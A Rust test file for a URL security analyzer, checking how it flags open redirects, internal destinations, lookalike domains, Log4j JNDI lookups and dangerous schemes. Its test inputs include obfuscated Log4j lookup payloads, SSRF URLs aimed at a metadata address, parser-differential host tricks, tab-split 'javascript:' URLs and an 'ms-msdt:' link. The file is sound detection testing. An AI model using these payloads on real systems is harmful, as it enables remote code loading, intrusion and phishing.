use super::{marks_of, Marks};
use crate::analysis::{analyze, Options};
use crate::split::Span;
use crate::warnings::{Severity, WarningCode};

/// A URL carried by a carried URL leads from its own bytes, as the
/// URL writes them: `open-redirect` on `next`'s whole value (to
/// b.example) and on the `https://evil.example/` inside it (to
/// evil.example), where both were on `next`'s value, 24-66 twice. Its
/// destination has those bytes too, and the component that holds them.
#[test]
fn a_url_carried_in_turn_leads_from_its_own_bytes() {
    let redirect = |bytes: &[&'static [u8]], spans: &[(usize, usize)], component| Marks {
        lifted: true,
        ..Marks::own(bytes, spans, component)
    };
    let url = b"https://a.example/?next=https://b.example/?u=https://evil.example/";
    assert_eq!(
        marks_of(url, WarningCode::OpenRedirect),
        [
            redirect(&[&url[24..]], &[(24, 66)], 4),
            redirect(&[b"https://evil.example/"], &[(45, 66)], 4),
        ]
    );
    let a = analyze(url, &Options::default());
    let last = a.destinations.last().expect("evil.example");
    assert_eq!(last.via, "query value 'next' → query value 'u'");
    assert_eq!((last.span, last.component), (Span::new(45, 66), Some(4)));
    assert_eq!(a.destination_severity(last), Some(Severity::Medium));
    // Escaped twice over: the bytes that write it.
    let url = b"https://a.example/?next=https%3A%2F%2Fb.example%2F%3Fu%3Dhttps%253A%252F%252Fevil.example%252F";
    let marks = marks_of(url, WarningCode::OpenRedirect);
    assert_eq!(
        marks.last(),
        Some(&redirect(
            &[b"https%253A%252F%252Fevil.example%252F"],
            &[(57, 94)],
            4
        ))
    );
    // In the path, in the segment where it starts.
    let url = b"https://a.example/go/https://b.example/go/https://evil.example/";
    assert_eq!(
        marks_of(url, WarningCode::OpenRedirect),
        [
            redirect(&[&url[21..]], &[(21, 63)], 3),
            redirect(&[b"https://evil.example/"], &[(42, 63)], 7),
        ]
    );
    // An internal host reached in turn.
    let url = b"https://a.example/?next=https://b.example/?u=http://127.0.0.1/";
    assert_eq!(
        marks_of(url, WarningCode::InternalDestination),
        [redirect(&[b"http://127.0.0.1/"], &[(45, 62)], 4)]
    );
}

/// Near miss: a URL carried in turn inside base64, whose bytes write
/// none of its characters alone, leads from the whole payload, as the URL
/// that carries it does; each still says where it leads.
#[test]
fn a_url_carried_in_turn_inside_base64_leads_from_the_payload() {
    let url = b"https://a.example/?next=aHR0cHM6Ly9iLmV4YW1wbGUvP3U9aHR0cHM6Ly9ldmlsLmV4YW1wbGUv";
    let a = analyze(url, &Options::default());
    let redirects: Vec<(Span, &str)> = a
        .warnings
        .iter()
        .filter(|w| w.code == WarningCode::OpenRedirect)
        .map(|w| (w.span, w.via.as_deref().unwrap_or_default()))
        .collect();
    assert_eq!(
        redirects,
        [
            (Span::new(24, 80), "query value 'next' → base64"),
            (
                Span::new(24, 80),
                "query value 'next' → base64 → query value 'u'"
            ),
        ]
    );
}

/// Past the listed ones, the destinations summed up in one warning mark
/// each place once: forty URLs that a URL in base64 carries in turn all
/// lead from the payload, which the summary marked nine times.
#[test]
fn a_summary_of_destinations_marks_each_place_once() {
    use base64::Engine as _;
    let pairs: Vec<String> = (0..40)
        .map(|i| format!("a{i}=http://x{i}.example/"))
        .collect();
    let inner = format!("https://b.example/?{}", pairs.join("&"));
    let payload = base64::engine::general_purpose::STANDARD.encode(inner);
    let url = format!("https://a.example/?next={payload}");
    let a = analyze(url.as_bytes(), &Options::default());
    let summary = a
        .warnings
        .iter()
        .find(|w| w.code == WarningCode::OpenRedirect && w.component.is_none())
        .expect("a summary");
    assert!(summary.message.starts_with("9 more"), "{}", summary.message);
    assert_eq!(summary.spans, [Span::new(24, url.len())]);
}

/// A network-path reference with a backslash in its authority leads a
/// browser, on the http(s) page it is read against, to the host before
/// the backslash (node: `new URL("//evil.com\\@good.com/",
/// "https://page.example/")` is `https://evil.com/@good.com/`), where RFC
/// 3986 parsers read the host after the '@': the destination is the
/// browser's, with RFC 3986's as the other reading, and the userinfo
/// warning says both, as for `http://evil.com\@good.com/`.
#[test]
fn a_network_path_reference_leads_where_a_browser_reads_it() {
    let a = analyze(br"//evil.com\@good.com/", &Options::default());
    let own = a.destinations.first().expect("its own destination");
    let host = |h: Option<&crate::analysis::HostClass>| h.map(|h| h.canonical.clone());
    assert_eq!(host(own.host.as_ref()).as_deref(), Some("evil.com"));
    let other = own.other_reading.as_ref().expect("RFC 3986's reading");
    assert_eq!(host(other.host.as_ref()).as_deref(), Some("good.com"));
    let userinfo = a
        .warnings
        .iter()
        .find(|w| w.code == WarningCode::Userinfo)
        .expect("a userinfo warning");
    assert!(
        userinfo.message.contains("opens 'evil.com'"),
        "{}",
        userinfo.message
    );
    // Near misses: no backslash, a backslash after the host (one host to
    // every reader), a backslash only in the query.
    for url in [
        &b"//evil.com@good.com/"[..],
        br"//good.com/a\b",
        br"//good.com/?next=a\b",
    ] {
        let a = analyze(url, &Options::default());
        let own = a.destinations.first().expect("its own destination");
        assert!(
            own.other_reading.is_none(),
            "{}",
            String::from_utf8_lossy(url)
        );
    }
}

/// A URL a browser refuses, whose split host holds a second '@'
/// (`@127.2.2.2`): RFC 3986 clients such as Python's reach the host after
/// the last '@', a loopback address, not a public name `@127.2.2.2`.
#[test]
fn a_refused_url_leads_past_its_last_at() {
    use crate::analysis::destination::Peer;
    use crate::analysis::Reach;
    let a = analyze(
        b"http://127.1.1.1:80:\\@@127.2.2.2:80/",
        &Options::default(),
    );
    let own = a.destinations.first().expect("its own destination");
    assert!(own.browser_refuses.is_some());
    let host = own.host.as_ref().expect("a host");
    assert_eq!(
        (host.canonical.as_str(), host.reach),
        ("127.2.2.2", Reach::Loopback)
    );
    let peers = &own.browser_refuses.as_ref().expect("refused").peers;
    assert_eq!(peers, &[Peer::PythonUrllib]);
    assert!(a
        .warnings
        .iter()
        .any(|w| w.code == WarningCode::InternalDestination && w.severity == Severity::Medium));
    // The user name's warning names the same host.
    let userinfo = a
        .warnings
        .iter()
        .find(|w| w.code == WarningCode::Userinfo)
        .expect("userinfo");
    assert!(
        userinfo.message.contains("which read the host '127.2.2.2'"),
        "{}",
        userinfo.message
    );
    // Near miss: a refused URL whose host RFC 3986 reads keeps that host.
    let a = analyze(b"http://1.2.3.4.5/", &Options::default());
    let host = a
        .destinations
        .first()
        .and_then(|d| d.host.as_ref())
        .expect("a host");
    assert_eq!(host.canonical, "1.2.3.4.5");
}

/// The directory a Log4j lookup names is where a vulnerable server that
/// logs the URL connects: a destination, found as written (across path
/// segments too), decoded, and spelled by nested lookups, whose host is
/// judged as any carried host's; never an `open-redirect` (the lookup is
/// no redirect, and `jndi-lookup` names it).
#[test]
fn a_log4j_lookup_leads_to_its_directory() {
    let lookup = |url: &str| {
        let a = analyze(url.as_bytes(), &Options::default());
        assert!(
            a.warnings
                .iter()
                .all(|w| w.code != WarningCode::OpenRedirect),
            "{url}: {:?}",
            a.warnings
        );
        let d = a.destinations.get(1).cloned();
        (a, d)
    };
    let (a, d) = lookup("https://example.com/?q=${jndi:ldap://127.0.0.1:1389/a}");
    let d = d.expect("the directory");
    assert_eq!(d.via, "query value 'q' → Log4j JNDI lookup");
    assert_eq!(d.target, "ldap://127.0.0.1:1389/a");
    assert_eq!((d.span, d.component), (Span::new(23, 54), Some(4)));
    let internal = a
        .warnings
        .iter()
        .find(|w| w.code == WarningCode::InternalDestination)
        .expect("a loopback directory");
    assert_eq!(internal.severity, Severity::High);
    // Across the path's segments; the look-alike marked on its own byte.
    let url = "https://example.com/${jndi:ldap://paypa1.com/x}";
    let (a, d) = lookup(url);
    assert_eq!(d.expect("the directory").via, "path → Log4j JNDI lookup");
    let imitation_spans = |a: &crate::analysis::Analysis| {
        a.warnings
            .iter()
            .find(|w| w.code == WarningCode::LookalikeDomain)
            .map(|w| w.spans.clone())
    };
    assert_eq!(imitation_spans(&a), Some(vec![Span::new(39, 40)]));
    // In capitals, the name's bytes marked all the same.
    let (a, _) = lookup("https://example.com/?q=${JNDI:ldap://paypa1.com/}");
    assert_eq!(imitation_spans(&a), Some(vec![Span::new(42, 43)]));
    // Decoded, the whole component marked; and spelled by nested lookups,
    // the whole lookup.
    let (_, d) = lookup("https://example.com/?q=%24%7Bjndi%3Armi%3A%2F%2F10.0.0.5%2Fa%7D");
    let d = d.expect("decoded");
    assert_eq!(d.target, "rmi://10.0.0.5/a");
    assert_eq!(
        (d.span, d.via.as_str()),
        (Span::new(23, 63), "query value 'q' → Log4j JNDI lookup")
    );
    // A lookup as written whose name holds an escape is one lookup, not
    // a second one decoded.
    let (a, _) = lookup("https://example.com/?q=${jndi:ldap://127.0.0.1:1389/a/aWQ%3D}");
    assert_eq!(a.destinations.len(), 2, "{:?}", a.destinations);
    let count = |code| a.warnings.iter().filter(|w| w.code == code).count();
    assert_eq!(count(WarningCode::JndiLookup), 1);
    assert_eq!(count(WarningCode::InternalDestination), 1);
    // What the directory's name carries in turn is no redirect either.
    let (a, _) = lookup("https://example.com/?q=${jndi:ldap://x.example/?u=https://evil.example/}");
    assert_eq!(a.destinations.len(), 3);
    assert!(a.destinations.iter().skip(1).all(|d| d.in_lookup));
    let (a, d) = lookup("https://example.com/?q=${${lower:j}ndi:ldap://169.254.169.254/a}");
    let d = d.expect("spelled by nested lookups");
    assert_eq!(d.span, Span::new(23, 64));
    assert_eq!(a.destination_severity(&d), Some(Severity::High));
    // A name in the server's own directory leads nowhere; a lookup
    // written twice is one destination.
    assert_eq!(
        lookup("https://example.com/?q=${jndi:java:comp/env}").1,
        None
    );
    let (a, _) =
        lookup("https://example.com/?a=${jndi:dns://x.example/}&b=${jndi:dns://x.example/}");
    assert_eq!(a.destinations.len(), 2);
    assert_eq!(a.destinations[1].span, Span::new(23, 47));
}

/// A scheme only a browser reads (`java\tscript:`: the URL Standard
/// strips tabs and newlines anywhere) is the scheme a browser follows: the
/// URL runs script, and the two readings differ.
#[test]
fn a_scheme_split_by_a_tab_leads_where_a_browser_reads_it() {
    for url in [&b"java\tscript:alert(1)"[..], b"jav\nascript:alert(1)"] {
        let a = analyze(url, &Options::default());
        let own = &a.destinations[0];
        assert_eq!(own.scheme, "javascript");
        assert!(own.runs_script);
        assert_eq!(
            crate::describe::place(own),
            "a 'javascript:' URL (runs script)"
        );
        assert!(a.warnings.iter().any(|w| {
            w.code == WarningCode::ParserDifferential && w.severity == Severity::High
        }));
        // The path segment the unfolding reads as that URL is the input
        // itself: one destination, not the same one twice.
        assert_eq!(a.destinations.len(), 1, "{:?}", a.destinations);
        // Its scheme runs script, said once.
        let script: Vec<_> = a
            .warnings
            .iter()
            .filter(|w| w.code == WarningCode::DangerousScheme)
            .collect();
        assert_eq!(script.len(), 1, "{script:?}");
        assert_eq!(script[0].severity, Severity::High);
        assert!(
            script[0].message.contains("'javascript:'"),
            "{}",
            script[0].message
        );
    }
    // A relative reference with a tab and no scheme stays one.
    let a = analyze(b"a\tb/c", &Options::default());
    assert_eq!(a.destinations[0].scheme, "");
    assert!(!a.destinations[0].runs_script);
}

/// A web archive's copy of a page is shown from the archive: the URL in
/// its path, and what that URL's query carries, are where the copy came
/// from, no open redirect (nor an internal destination), while what that
/// URL imitates is still said. The same URL behind any other path prefix
/// is a redirect, and so is the Wayback Machine's raw replay (`id_`).
#[test]
fn a_web_archives_copy_is_no_redirect() {
    use crate::wrappers::Archive;
    for (url, archive) in [
        (
            &b"https://web.archive.org/web/20200101000000/https://paypa1.com/signin"[..],
            Archive::WaybackMachine,
        ),
        (
            b"https://web.archive.org/web/https://paypa1.com/signin",
            Archive::WaybackMachine,
        ),
        (
            b"https://archive.ph/newest/https://paypa1.com/signin",
            Archive::ArchiveToday,
        ),
    ] {
        let a = analyze(url, &Options::default());
        let text = String::from_utf8_lossy(url);
        let carried = a.destinations.get(1).expect("the archived page");
        assert_eq!(carried.archived_by, Some(archive), "{text}");
        assert!(!carried.leaves_site, "{text}");
        assert_eq!(a.destination_severity(carried), None, "{text}");
        let codes: Vec<_> = a.warnings.iter().map(|w| w.code).collect();
        assert_eq!(codes, [WarningCode::LookalikeDomain], "{text}");
        let reach = crate::describe::reach(carried).expect("said");
        assert!(reach.starts_with("archived: shown from"), "{reach}");
    }
    for url in [
        &b"https://web.archive.org/web/2020/http://169.254.169.254/latest/"[..],
        // The archived page's query is the page's, not the archive's.
        b"https://web.archive.org/web/2020/https://www.google.com/url?q=https://evil.example/",
        b"https://web.archive.org/web/2020/https://v.example/r/https://evil.example/",
        // Replayed raw, or captured then shown: from the archive all the same.
        b"https://web.archive.org/web/20200101000000id_/https://evil.example/",
        b"https://web.archive.org/save/https://evil.example/",
    ] {
        let a = analyze(url, &Options::default());
        let text = String::from_utf8_lossy(url);
        assert!(a.warnings.is_empty(), "{text}: {:?}", a.warnings);
        assert!(
            a.destinations
                .iter()
                .skip(1)
                .all(|d| d.archived_by.is_some()),
            "{text}"
        );
    }
    for url in [
        &b"https://evil.example/web/2020/https://paypal.com/signin"[..],
        b"https://archive.ph/o/AbCdE/https://paypal.com/signin",
    ] {
        let a = analyze(url, &Options::default());
        let text = String::from_utf8_lossy(url);
        assert!(
            a.destinations.iter().all(|d| d.archived_by.is_none()),
            "{text}"
        );
        assert!(
            a.warnings
                .iter()
                .any(|w| w.code == WarningCode::OpenRedirect),
            "{text}"
        );
    }
}

/// A host only a browser reads (`https:/paypa1.com/`: RFC 3986 reads no
/// authority) has what it imitates marked on the bytes that write it, as
/// the warning is, not on the whole URL.
#[test]
fn what_a_browsers_host_imitates_is_marked_where_it_is_written() {
    for (url, at) in [
        (&b"https:/paypa1.com/"[..], 12),
        (b"https:PAYPA1.com/", 11),
        (b"https:\\paypa1.com/", 12),
        // The host after the userinfo, not the same name before it.
        (b"https:/paypa1.com@paypa1.com/", 23),
        (b"http://x:paypa1.com@paypa1.com\\@evil.com/", 25),
        // Not the same name in the RFC 3986 reading's port or path.
        (b"http://paypa1.com\\@x.com:paypa1.com/", 12),
    ] {
        let a = analyze(url, &Options::default());
        let i = a.destinations[0].imitates.as_ref().expect("imitates");
        assert_eq!(
            i.span,
            Span::new(at, at + 1),
            "{}",
            String::from_utf8_lossy(url)
        );
    }
}

/// A host written otherwise than read (an escape in it) is marked whole,
/// not where the name read appears again further on.
#[test]
fn what_a_host_written_otherwise_imitates_marks_the_host() {
    let a = analyze(b"https:/pay%70a1.com/paypa1.com", &Options::default());
    let i = a.destinations[0].imitates.as_ref().expect("imitates");
    assert_eq!(i.span, Span::new(7, 19));
}

/// An archived page's URL that one path segment writes whole, its slashes
/// escaped, is one destination, said once.
#[test]
fn an_archived_url_in_one_segment_is_unfolded_once() {
    for url in [
        &b"https://web.archive.org/web/2020/https%3A%2F%2Fpaypa1.com/"[..],
        b"https://web.archive.org/web/2020/javascript%3Aalert(1)",
    ] {
        let a = analyze(url, &Options::default());
        assert_eq!(a.destinations.len(), 2, "{}", String::from_utf8_lossy(url));
        let said = a
            .warnings
            .iter()
            .filter(|w| {
                matches!(
                    w.code,
                    WarningCode::LookalikeDomain | WarningCode::DangerousScheme
                )
            })
            .count();
        assert_eq!(said, 1, "{}", String::from_utf8_lossy(url));
    }
}

/// The host a browser reads is found as the URL Standard finds it: in a
/// reference, past its leading slashes (a later `https:` is no scheme);
/// after a scheme with a tab in it, read as the special scheme it is.
#[test]
fn a_browsers_host_is_found_past_a_references_slashes_and_a_split_scheme() {
    for (url, span) in [
        (
            &b"//pay\tpa1.com/login?next=https://bank.example/"[..],
            Span::new(8, 9),
        ),
        (b"//a@b@pay\tpa1.com", Span::new(12, 13)),
        (b"ht\ttps://paypa1.com\\@good.com/", Span::new(14, 15)),
    ] {
        let a = analyze(url, &Options::default());
        let i = a.destinations[0].imitates.as_ref().expect("imitates");
        assert_eq!(i.span, span, "{}", String::from_utf8_lossy(url));
        assert!(
            a.warnings
                .iter()
                .any(|w| w.code == WarningCode::LookalikeDomain && w.span == span),
            "{}",
            String::from_utf8_lossy(url)
        );
    }
}

/// A link wrapped twice is reached through both wrappers, the outermost
/// first; the one it carries directly through the outer alone.
#[test]
fn a_link_wrapped_twice_is_reached_through_both() {
    let a = analyze(
        b"https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.google.com%2Furl%3Fq%3Dhttps%253A%252F%252Fpaypa1.com%252Flogin&data=05",
        &Options::default(),
    );
    let chains: Vec<(&str, Vec<&str>)> = a
        .destinations
        .iter()
        .map(|d| (d.target.as_str(), d.through_chain.clone()))
        .collect();
    assert_eq!(
        chains[1..],
        [
            (
                "https://www.google.com/url?q=https%3A%2F%2Fpaypa1.com%2Flogin",
                vec!["Microsoft Safe Links"]
            ),
            (
                "https://paypa1.com/login",
                vec!["Microsoft Safe Links", "Google's redirector"]
            ),
        ],
        "{chains:?}"
    );
    assert!(a.destinations[0].through_chain.is_empty());
    // A sibling value of the same name wraps nothing of the other's.
    let a = analyze(
        b"https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fgood.example%2F&url=https%3A%2F%2Fwww.google.com%2Furl%3Fq%3Dhttps%253A%252F%252Fpaypa1.com%252Flogin",
        &Options::default(),
    );
    let last = a.destinations.last().expect("destinations");
    assert_eq!(last.target, "https://paypa1.com/login");
    assert_eq!(last.through_chain, ["Google's redirector"]);
}

/// A sign-in request's return address (OAuth's `redirect_uri` beside a
/// `client_id`, WS-Federation's `wreply`) is where the service returns
/// the visitor, an address the app registered:
/// shown, low, not an open redirect of the provider's; what the address
/// itself imitates is still said. Without a `client_id`, or under
/// another key, it is any carried URL's.
#[test]
fn a_sign_in_requests_return_address_is_shown_not_an_open_redirect() {
    let redirects = |url: &str| -> Vec<Severity> {
        analyze(url.as_bytes(), &Options::default())
            .warnings
            .iter()
            .filter(|w| w.code == WarningCode::OpenRedirect)
            .map(|w| w.severity)
            .collect()
    };
    for url in [
        "https://accounts.google.com/o/oauth2/v2/auth?client_id=1.apps.googleusercontent.com&redirect_uri=https://www.notion.so/callback&response_type=code",
        "https://github.com/login/oauth/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fvercel.com%2Fapi%2Fcallback",
        "https://www.facebook.com/v18.0/dialog/oauth?CLIENT_ID=1&REDIRECT_URI=https://www.airbnb.com/cb",
        "https://www.facebook.com/dialog/share?app_id=1&href=x&redirect_uri=https://www.airbnb.com/cb",
        "https://login.microsoftonline.com/common/oauth2/v2.0/logout?client_id=a&post_logout_redirect_uri=https://app.contoso.com/",
        // WS-Federation: the reply address; the realm names the application.
        "https://login.microsoftonline.com/t/wsfed?wa=wsignin1.0&wtrealm=https%3A%2F%2Fapp.contoso.com%2F&wreply=https%3A%2F%2Fapp.contoso.com%2Fsignin",
        // Telegram's login widget: the bot's own site, set by its owner.
        "https://oauth.telegram.org/auth?bot_id=123456&origin=https%3A%2F%2Fexample.org&embed=1",
        // TikTok's Login Kit names its app `client_key`.
        "https://www.tiktok.com/v2/auth/authorize/?client_key=abc&scope=user.info.basic&response_type=code&redirect_uri=https%3A%2F%2Fwww.canva.com%2Ftiktok%2Fcallback",
        // Facebook's login page: the app's registered address, with the
        // error a visitor who declines gets.
        "https://www.facebook.com/login.php?skip_api_login=1&api_key=123&cancel_url=https%3A%2F%2Fwww.spotify.com%2Fcallback%3Ferror%3Daccess_denied",
        // Google Identity Services' popup answers one of the app's origins.
        "https://accounts.google.com/gsi/select?client_id=1.apps.googleusercontent.com&ux_mode=popup&origin=https%3A%2F%2Fwww.notion.so",
        // A sign-in page's next step, carried: the return address of the
        // request it carries.
        "https://accounts.spotify.com/login?continue=https%3A%2F%2Faccounts.spotify.com%2Fauthorize%3Fclient_id%3Dabc%26response_type%3Dcode%26redirect_uri%3Dhttps%253A%252F%252Fwww.notion.so%252Fcallback",
        // A SAML discovery service returns to the service provider's
        // listed address.
        "https://wayf.incommonfederation.org/DS/WAYF?entityID=https%3A%2F%2Fsp.example.edu%2Fshibboleth&return=https%3A%2F%2Fsp.example.edu%2FShibboleth.sso%2FLogin%3FSAMLDS%3D1",
    ] {
        assert_eq!(redirects(url), [Severity::Low], "{url}");
    }
    // Identifiers written as URLs lead nowhere: a SAML request's
    // signature algorithm, the authentication classes an OpenID Connect
    // request asks for.
    for url in [
        "https://idp.example.org/idp/profile/SAML2/Redirect/SSO?SAMLRequest=fZJN&SigAlg=http%3A%2F%2Fwww.w3.org%2F2001%2F04%2Fxmldsig-more%23rsa-sha256&Signature=abc",
        "https://login.example.org/authorize?client_id=a&acr_values=http%3A%2F%2Fidmanagement.gov%2Fns%2Fassurance%2Fial%2F1&redirect_uri=https%3A%2F%2Flogin.example.org%2Fcb",
    ] {
        assert!(redirects(url).is_empty(), "{url}");
    }
    // The same keys on another host, or with no bot named, are a redirect.
    assert_eq!(
        redirects("https://evil.example/auth?bot_id=1&origin=https%3A%2F%2Fother.example"),
        [Severity::Medium]
    );
    assert_eq!(
        redirects("https://oauth.telegram.org/auth?origin=https%3A%2F%2Fother.example"),
        [Severity::Medium]
    );
    // A command-line tool's sign-in returns to a port on the visitor's own
    // machine (RFC 8252): no internal destination, the return shown.
    let a = analyze(
        b"https://github.com/login/oauth/authorize?client_id=a&redirect_uri=http%3A%2F%2F127.0.0.1%3A45678%2Fcallback",
        &Options::default(),
    );
    let found: Vec<_> = a.warnings.iter().map(|w| (w.code, w.severity)).collect();
    assert_eq!(found, [(WarningCode::OpenRedirect, Severity::Low)]);
    // Elsewhere a loopback address carried is what SSRF reaches.
    let a = analyze(
        b"https://idp.example/authorize?next=http%3A%2F%2F127.0.0.1%3A45678%2F",
        &Options::default(),
    );
    assert!(a
        .warnings
        .iter()
        .any(|w| w.code == WarningCode::InternalDestination && w.severity == Severity::High));
    let a = analyze(
        b"https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=a&response_type=code&redirect_uri=https%3A%2F%2Fpaypa1.com%2Fsignin",
        &Options::default(),
    );
    assert!(a
        .warnings
        .iter()
        .any(|w| w.code == WarningCode::LookalikeDomain && w.severity == Severity::High));
    for url in [
        "https://idp.example/authorize?redirect_uri=https://evil.example/",
        "https://idp.example/authorize?client_id=a&next=https://evil.example/",
        // `return` is the discovery protocol's only beside an `entityID`.
        "https://idp.example/DS?return=https://evil.example/",
        // A carried request without its app named returns nowhere
        // registered.
        "https://accounts.example/login?continue=https%3A%2F%2Faccounts.example%2Fauthorize%3Fredirect_uri%3Dhttps%253A%252F%252Fevil.example%252F",
    ] {
        assert_eq!(redirects(url), [Severity::Medium], "{url}");
    }
}

/// An application's own link (`market://details`, `tg://resolve`) names
/// a screen of the application after its `//`, no host on a network: no
/// internal destination, and "Leads to" says it opens an application. A
/// network scheme's single-label name is still judged (`gopher://`).
#[test]
fn an_applications_link_leads_to_no_host() {
    for url in [
        "market://details?id=com.microsoft.teams",
        "tg://resolve?domain=durov",
        "https://x.example/?next=whatsapp://send?text=hi",
    ] {
        let a = analyze(url.as_bytes(), &Options::default());
        assert!(a.warnings.is_empty(), "{url}: {:?}", a.warnings);
    }
    let a = analyze(b"market://details?id=x", &Options::default());
    assert_eq!(
        crate::describe::place(&a.destinations[0]),
        "no host (a 'market:' link, which opens an application on the reader's device)"
    );
    let a = analyze(b"gopher://redis:6379/_INFO", &Options::default());
    assert!(a
        .warnings
        .iter()
        .any(|w| w.code == WarningCode::InternalDestination));
}

/// A share button's or a search's URL (`twitter.com/intent/tweet?url=`,
/// `google.com/search?q=`) is named, no visitor sent there: no
/// `open-redirect`, what it imitates still said; the same path and key
/// on any other host is a redirect's target as before.
#[test]
fn a_share_buttons_url_is_named_not_followed() {
    let redirects = |url: &str| {
        analyze(url.as_bytes(), &Options::default())
            .warnings
            .iter()
            .filter(|w| w.code == WarningCode::OpenRedirect)
            .count()
    };
    for url in [
        "https://twitter.com/intent/tweet?text=Hi&url=https%3A%2F%2Fexample.com%2Fa",
        "https://www.facebook.com/sharer/sharer.php?u=https://example.com/a",
        "https://www.linkedin.com/sharing/share-offsite/?url=https://example.com/a",
        "https://www.google.com/search?q=https%3A%2F%2Fexample.com%2Flogin",
    ] {
        assert_eq!(redirects(url), 0, "{url}");
    }
    assert_eq!(
        redirects("https://evil.example/intent/tweet?url=https%3A%2F%2Fexample.com"),
        1
    );
    let a = analyze(
        b"https://twitter.com/intent/tweet?url=https%3A%2F%2Fpaypa1.com%2Fsignin",
        &Options::default(),
    );
    assert!(a
        .warnings
        .iter()
        .any(|w| w.code == WarningCode::LookalikeDomain));
}

/// A viewer's document (Office's, Google Docs', a translation) is another
/// site's content shown under the viewer's name: low, its message naming
/// both; written to slip past a check, it is said as any such URL is.
#[test]
fn a_viewers_document_is_shown_low() {
    let warned = |url: &[u8]| {
        analyze(url, &Options::default())
            .warnings
            .into_iter()
            .filter(|w| w.code == WarningCode::OpenRedirect)
            .map(|w| (w.severity, w.message))
            .collect::<Vec<_>>()
    };
    // Facebook's image proxy, on any of its regional hosts.
    for url in [
        &b"https://external.xx.fbcdn.net/safe_image.php?d=AQB&url=https%3A%2F%2Fwww.example.com%2Fa.jpg"[..],
        b"https://external.fsin1-1.fna.fbcdn.net/safe_image.php?url=https%3A%2F%2Fwww.example.com%2Fa.jpg",
    ] {
        let w = warned(url);
        assert_eq!(w.iter().map(|w| w.0).collect::<Vec<_>>(), [Severity::Low]);
    }
    let w =
        warned(b"https://xx.fbcdn.net/safe_image.php?url=https%3A%2F%2Fwww.example.com%2Fa.jpg");
    assert_eq!(
        w.iter().map(|w| w.0).collect::<Vec<_>>(),
        [Severity::Medium]
    );
    let w = warned(b"https://view.officeapps.live.com/op/view.aspx?src=https%3A%2F%2Fevil.example%2Finvoice.docx");
    assert_eq!(w.len(), 1, "{w:?}");
    assert_eq!(w[0].0, Severity::Low);
    assert!(
        w[0].1
            .contains("'view.officeapps.live.com' fetches and shows under its own name")
            && w[0].1.contains("written by 'evil.example'"),
        "{w:?}"
    );
    let w =
        warned(b"https://translate.google.com/translate?sl=auto&tl=en&u=https://www.lemonde.fr/");
    assert_eq!(w.iter().map(|w| w.0).collect::<Vec<_>>(), [Severity::Low]);
    // Another path of the same host redirects as any page may.
    let w = warned(b"https://docs.google.com/other?url=https%3A%2F%2Fevil.example%2F");
    assert_eq!(
        w.iter().map(|w| w.0).collect::<Vec<_>>(),
        [Severity::Medium]
    );
    let w = warned(b"https://docs.google.com/viewer?url=%2F%5Cevil.example%2Fx.pdf");
    assert_eq!(w.iter().map(|w| w.0).collect::<Vec<_>>(), [Severity::High]);
}

/// An application's link whose address is a URL (`microsoft-edge:URL`,
/// an Office URI's `ofe|u|URL`) hands the URL to the application: no
/// server echoes its path, so no `open-redirect`, but a low
/// `dangerous-scheme` on the URL, which leads where it says (up to an
/// Office URI's next argument). A relative reference's path is still a
/// server's to echo.
#[test]
fn an_applications_link_hands_its_url_to_the_application() {
    let said = |url: &[u8]| {
        analyze(url, &Options::default())
            .warnings
            .into_iter()
            .filter(|w| {
                matches!(
                    w.code,
                    WarningCode::OpenRedirect | WarningCode::DangerousScheme
                )
            })
            .map(|w| (w.code, w.severity, w.spans))
            .collect::<Vec<_>>()
    };
    assert_eq!(
        said(b"microsoft-edge:https://evil.example/login"),
        [(
            WarningCode::DangerousScheme,
            Severity::Low,
            vec![Span::new(15, 41)]
        )]
    );
    let url = b"ms-excel:ofv|u|https://evil.example/x.xlsx|s|https://a.example/";
    assert_eq!(
        said(url),
        [(
            WarningCode::DangerousScheme,
            Severity::Low,
            vec![Span::new(15, 42)]
        )]
    );
    let a = analyze(url, &Options::default());
    assert_eq!(a.destinations[1].target, "https://evil.example/x.xlsx");
    // An internal address it hands over opens on the reader's device:
    // no server fetches it.
    let a = analyze(
        b"microsoft-edge:http://169.254.169.254/latest/meta-data/",
        &Options::default(),
    );
    let internal = a
        .warnings
        .iter()
        .find(|w| w.code == WarningCode::InternalDestination)
        .expect("internal-destination");
    assert!(
        internal.message.contains("on the reader's own device")
            && !internal.message.contains("SSRF"),
        "{}",
        internal.message
    );
    assert_eq!(
        said(b"/redirect/https://evil.example/")
            .iter()
            .map(|w| (w.0, w.1))
            .collect::<Vec<_>>(),
        [(WarningCode::OpenRedirect, Severity::High)]
    );
}

/// A system tool's scheme is the danger whatever the link holds: high
/// where links ran code through it (`ms-msdt:`), medium where it shows
/// a remote share's files in a local window (`search-ms:`).
#[test]
fn a_system_tools_scheme_is_dangerous() {
    for (url, severity) in [
        (
            &b"ms-msdt:/id PCWDiagnostic /skip force /param \"IT_BrowseForFile=x\""[..],
            Severity::High,
        ),
        (b"MS-OFFICECMD:{}", Severity::High),
        (
            b"search-ms:query=invoice&crumb=location:%5C%5Cevil.example%5Cshare",
            Severity::Medium,
        ),
    ] {
        let a = analyze(url, &Options::default());
        let w = a
            .warnings
            .iter()
            .find(|w| w.code == WarningCode::DangerousScheme)
            .unwrap_or_else(|| panic!("{url:?}: {:?}", a.warnings));
        assert_eq!(w.severity, severity, "{}", w.message);
        assert_eq!(w.spans[0].start, 0);
    }
}
